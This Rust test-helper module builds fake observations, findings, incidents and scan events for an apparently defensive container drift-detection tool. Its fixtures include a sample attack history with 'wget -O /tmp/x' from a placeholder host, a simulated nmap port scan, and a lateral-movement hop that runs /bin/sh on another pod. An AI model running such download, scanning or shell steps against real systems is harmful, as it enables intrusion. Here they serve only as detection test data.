//! Behaviours for the tests of this module and of the sinks.

use std::sync::Arc;

use jiff::{SignedDuration, Timestamp};

use super::event::{Action, BaselineStatus, Context, Event, Origin, Seen};
use super::kind::{DriftKind, Finding, Novelty};
use super::{Aggregator, aggregate};
use crate::behaviour::{
    Accept, Ancestor, Behaviour, Capability, Change, Connect, Dns, Escape, Exec, File, Identity,
    Listen, Map, Named, Observation, Operation, Process, Protocol, Socket, Syscall, Unix, UserIds,
};
use crate::flight::Moment;
use crate::generalise;
use crate::provenance::{Counts, Flag, Provenance, Unknown};

pub(crate) fn start() -> Timestamp {
    "2026-11-21T20:59:01.123456789Z".parse().unwrap()
}

pub(crate) fn later(seconds: i64) -> Timestamp {
    start() + SignedDuration::from_secs(seconds)
}

pub(crate) fn context() -> Context {
    let origin = Arc::new(Origin::of_command("node-1".to_owned(), "demo"));
    Context {
        baseline_id: Some("sha256:0123".to_owned()),
        baseline_status: BaselineStatus::Exact,
        recorded_runs: 5,
        baseline_coverage: Some(0.979),
        ..Context::unjudged(origin, "full")
    }
}

/// A pod's container of which everything is known.
pub(crate) fn origin() -> Origin {
    Origin {
        host_name: "node-1".to_owned(),
        cluster: Some("prod".to_owned()),
        node: Some("node-1".to_owned()),
        namespace: Some("shop".to_owned()),
        pod: Some("web-0".to_owned()),
        pod_uid: Some("8e1f".to_owned()),
        pod_ip: Some("10.0.0.7".parse().unwrap()),
        pod_container: Some("nginx".to_owned()),
        attempt: Some(2),
        container_id: Some("c0ffee".to_owned()),
        runtime: Some("containerd".to_owned()),
        image_name: Some("registry/web".to_owned()),
        image_tags: vec!["1.2".to_owned()],
        image_digests: vec!["registry/web@sha256:abcd".to_owned()],
        image_id: Some("sha256:1234".to_owned()),
        image_reference: Some("registry/web:1.2".to_owned()),
        workload: Some("web".to_owned()),
        ..Origin::default()
    }
}

fn by(executable: &str, args: &[&str], behaviour: Behaviour) -> Observation {
    let process = Process {
        pid: 4711,
        vpid: Some(23),
        parent_pid: 4700,
        uid: 33,
        executable: executable.into(),
        args: args.iter().map(ToString::to_string).collect(),
        args_cut: false,
        ancestry: Arc::new([Ancestor {
            pid: 4700,
            executable: "/usr/sbin/nginx".into(),
            args: Arc::new(["nginx: worker process".to_owned()]),
        }]),
    };
    Observation { time: start(), process: Arc::new(process), behaviour }
}

pub(crate) fn exec(executable: &str, args: &[&str], parent: Option<&str>) -> Observation {
    let behaviour = Behaviour::Exec(Exec {
        given: executable.to_owned(),
        parent: parent.map(Arc::from),
        fileless: executable.starts_with("memfd:"),
        not_in_image: executable.starts_with("/dropped/"),
        cwd: "/".to_owned(),
    });
    let mut observation = by(executable, args, behaviour);
    let process = Arc::make_mut(&mut observation.process);
    process.ancestry = match parent {
        Some(parent) => process
            .ancestry
            .iter()
            .map(|one| Ancestor { executable: parent.into(), ..one.clone() })
            .collect(),
        None => Arc::default(),
    };
    observation
}

pub(crate) fn file(path: &str, write: bool, denied: bool) -> Observation {
    let behaviour = Behaviour::File(File { path: path.to_owned(), read: !write, write, denied });
    by("/usr/bin/cat", &["cat", path], behaviour)
}

pub(crate) fn read(path: &str) -> Observation {
    file(path, false, false)
}

pub(crate) fn write(path: &str) -> Observation {
    file(path, true, false)
}

pub(crate) fn change(operation: Operation, path: &str) -> Observation {
    let change = Change { path: path.to_owned(), operation };
    by("/usr/bin/busybox", &["busybox"], Behaviour::Change(change))
}

pub(crate) fn map(path: &str) -> Observation {
    by("/usr/sbin/nginx", &["nginx"], Behaviour::Map(Map { path: path.to_owned() }))
}

pub(crate) fn connect(executable: &str, peer: &str) -> Observation {
    let peer = peer.parse().unwrap();
    let (protocol, named) = (Protocol::Tcp, Named::default());
    let connect = Connect { protocol, peer, datagram: false, port_chosen: true, named };
    by(executable, &[executable], Behaviour::Connect(connect))
}

pub(crate) fn listen(local: &str) -> Observation {
    let local = local.parse().unwrap();
    let listen = Listen { protocol: Protocol::Tcp, local, port_chosen: true };
    by("/usr/bin/perl", &["perl"], Behaviour::Listen(listen))
}

pub(crate) fn accept(local: &str, peer: &str) -> Observation {
    let (local, peer) = (local.parse().unwrap(), peer.parse().unwrap());
    let accept = Accept { protocol: Protocol::Tcp, local, port_chosen: true, peer, pod: None };
    by("/usr/bin/perl", &["perl"], Behaviour::Accept(accept))
}

pub(crate) fn syscall(name: &str) -> Observation {
    let foreign = name.starts_with("foreign_");
    let syscall = Syscall { name: name.to_owned(), denied: false, foreign };
    by("/usr/bin/unshare", &["unshare"], Behaviour::Syscall(syscall))
}

pub(crate) fn socket(family: u32, kind: u32, protocol: u32) -> Observation {
    by("/bin/app", &["app"], Behaviour::Socket(Socket { family, kind, protocol }))
}

pub(crate) fn capability(number: u32) -> Observation {
    by("/bin/app", &["app"], Behaviour::Capability(Capability(number)))
}

pub(crate) fn unix(peer: &str) -> Observation {
    let unix = Unix { peer: peer.to_owned(), datagram: false };
    by("/bin/app", &["app"], Behaviour::Unix(unix))
}

pub(crate) fn identity(from: u32, to: u32) -> Observation {
    let of = |id| UserIds { real: id, effective: id };
    by("/bin/app", &["app"], Behaviour::Identity(Identity { from: of(from), to: of(to) }))
}

pub(crate) fn escape(cgroup: &str) -> Observation {
    by("/bin/app", &["app"], Behaviour::Escape(Escape { cgroup: cgroup.to_owned() }))
}

pub(crate) fn dns(name: &str) -> Observation {
    let answer = Dns { name: name.to_owned(), addresses: vec!["192.0.2.7".parse().unwrap()] };
    by("/bin/app", &["app"], Behaviour::Dns(answer))
}

pub(crate) fn finding(kind: DriftKind, novelty: Novelty, observation: &Observation) -> Finding {
    let object = match &observation.behaviour {
        Behaviour::Exec(_) => observation.process.executable.to_string(),
        Behaviour::File(file) => file.path.clone(),
        Behaviour::Change(change) => generalise::change(change).object(),
        Behaviour::Map(map) => map.path.clone(),
        Behaviour::Connect(connect) => format!("{} {}", connect.protocol, connect.peer),
        Behaviour::Listen(listen) => format!("{} {}", listen.protocol, listen.local),
        Behaviour::Accept(accept) => format!("{} {}", accept.protocol, accept.peer.ip()),
        Behaviour::Syscall(syscall) => syscall.name.clone(),
        Behaviour::Socket(sort) => crate::generalise::socket(*sort).object,
        Behaviour::Capability(capability) => capability.to_string(),
        Behaviour::Unix(unix) => unix.peer.clone(),
        Behaviour::Identity(change) => change.to_string(),
        Behaviour::Escape(escape) => escape.cgroup.clone(),
        Behaviour::Dns(answer) => answer.name.clone(),
    };
    Finding { kind, pattern: object.clone(), object, novelty, nearest: None, relearn: None }
}

/// As it would be written at its first occurrence.
pub(crate) fn event(kind: DriftKind, observation: &Observation) -> Event {
    let finding = finding(kind, Novelty::Container, observation);
    let mut aggregator = Aggregator::new(aggregate::CAPACITY);
    let told = aggregator.observe(&context(), observation, finding, |_| None).remove(0);
    let super::Told::Event(event) = told else { panic!("{told:?}") };
    assert_eq!(event.action, Action::Created);
    *event
}

/// Drift that went from one pod to the next.
pub(crate) fn incident() -> Event {
    use super::{Confidence, Incident, IncidentHop, Party, Sighting};
    let party = |pod: &str, digit: &str, node: &str| Party {
        namespace: Some("shop".to_owned()),
        pod: Some(pod.to_owned()),
        uid: format!("uid-{pod}"),
        container: Some(digit.repeat(64)),
        node: Some(node.to_owned()),
    };
    let hop = IncidentHop {
        from: party("web-0", "a", "node-1"),
        to: party("api-0", "b", "node-1"),
        address: "10.0.0.7".to_owned(),
        port: Some(5432),
        time: start(),
        last: later(1),
        confidence: Confidence::High,
        then: "ran /bin/sh there 0.8 s later".to_owned(),
        events: vec!["01M7ZYFGM3564FGKJ0XKFVSNHD".to_owned()],
    };
    let sighting = Sighting {
        id: Incident::id(&hop),
        action: Action::Created,
        fingerprint: Incident::fingerprint("web", "api", hop.port),
        incident: Incident { confidence: Confidence::High, hops: vec![hop] },
        techniques: vec!["T1059.004".to_owned()],
    };
    sighting.event(&context())
}

/// With what is known of its image, of the time before it, and of the same elsewhere.
pub(crate) fn with_history(event: &mut Event) {
    let provenance = Provenance {
        flags: vec![Flag::Unpinned, Flag::RegistryUnapproved],
        verified: Some(true),
        keys: vec!["sha256:5e1f".to_owned()],
        scanned: Some(later(-3600)),
        counts: Some(Counts { critical: 1, high: 2, medium: 3, low: 4, unknown: 5 }),
        sbom: vec!["cyclonedx".to_owned()],
        unknown: vec![Unknown::Untrusted],
    };
    Arc::make_mut(&mut event.origin).provenance = Some(Arc::new(provenance));
    event.seen = Some(Seen { first: later(-86_400), last: later(-60), count: 3, containers: 2 });
    let moment = |ago: i64, kind, object: &str| Moment {
        time: later(-ago),
        kind,
        object: object.to_owned(),
        executable: "/usr/bin/wget".into(),
        pid: 4690,
    };
    event.before = vec![
        moment(3, "exec", "wget -O /tmp/x http://192.0.2.7/x"),
        moment(2, "net.connect", "tcp 192.0.2.7:80"),
        moment(1, "exit", "/usr/bin/wget, status 0"),
    ];
}

/// One that tells of a scan: what came after the first two of so many ports.
pub(crate) fn scan(ports: u16) -> Event {
    let mut aggregator = Aggregator::new(aggregate::CAPACITY);
    for port in 0..ports {
        let observation = connect("/usr/bin/nmap", &format!("10.0.0.7:{}", 20_000 + port));
        let finding = finding(DriftKind::NetConnect, Novelty::Container, &observation);
        aggregator.observe(&context(), &observation, finding, |_| None);
    }
    let told = aggregator.updates(&context(), later(1)).pop();
    let Some(super::Told::Event(event)) = told else { panic!("{told:?}") };
    *event
}
